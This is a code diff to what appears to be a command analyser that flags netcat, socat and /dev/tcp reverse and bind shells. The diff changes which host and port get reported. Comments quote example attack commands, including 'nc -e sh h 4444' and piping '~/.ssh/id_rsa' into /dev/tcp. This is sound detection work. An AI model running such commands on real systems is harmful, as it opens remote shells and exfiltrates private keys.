@@ -43,7 +43,10 @@ const NC_SPEC: OptionSpec = {
 function netcat(ctx: Ctx): void {
   const p = parseArgs(ctx.args, NC_SPEC);
   const run = p.flags.find((f) => (f.name === "exec" || f.name === "sh-exec" || f.name === "lua-exec") && f.value !== null);
-  if (run) remote(ctx, has(p, "listen") ? "bind shell" : "reverse shell", ctx.argv.join(" "));
+  if (!run) return;
+  // The socket is the target: the host and port operands (`nc -e sh h 4444` → `h 4444`), or the listening port.
+  const socket = p.operands.map((o) => o.value).join(" ") || (p.flags.find((f) => f.name === "p")?.value ?? run.value!);
+  remote(ctx, has(p, "listen") ? "bind shell" : "reverse shell", socket);
 }
 
 // ── socat ────────────────────────────────────────────────────────────────
@@ -57,7 +60,7 @@ function socat(ctx: Ctx): void {
   const addrs = p.operands.map((o) => o.value);
   const program = addrs.find((a) => SOCAT_PROGRAM.test(a));
   const network = addrs.find((a) => SOCAT_NETWORK.test(a));
-  if (program && network) remote(ctx, /^[a-z0-9]*-l(isten)?[:,]/i.test(network) ? "bind shell" : "reverse shell", ctx.argv.join(" "));
+  if (program && network) remote(ctx, /^[a-z0-9]*-l(isten)?[:,]/i.test(network) ? "bind shell" : "reverse shell", network);
 }
 
 // ── /dev/tcp and pipelines ───────────────────────────────────────────────
@@ -134,7 +137,8 @@ export function shellSockets(ctx: Ctx): void {
     const { up, down } = pipelineNeighbours(ctx);
     const client = (i: number) => SOCKET_CLIENTS.has(ctx.analysis.commands[i]!.cmd.program);
     const from = up.find(client) ?? (literalStdin(ctx) ? undefined : down.find(client));
-    if (from !== undefined) return remote(ctx, "reverse shell", ctx.analysis.commands[from]!.cmd.argv.join(" "));
+    // The socket client's operands (`nc -v h 4444 | sh` → `h 4444`).
+    if (from !== undefined) return remote(ctx, "reverse shell", ctx.analysis.commands[from]!.cmd.argv.filter((w) => !w.startsWith("-")).join(" "));
     return;
   }
   // Any other program writing into a socket sends what it reads (`cat ~/.ssh/id_rsa > /dev/tcp/h/p`).
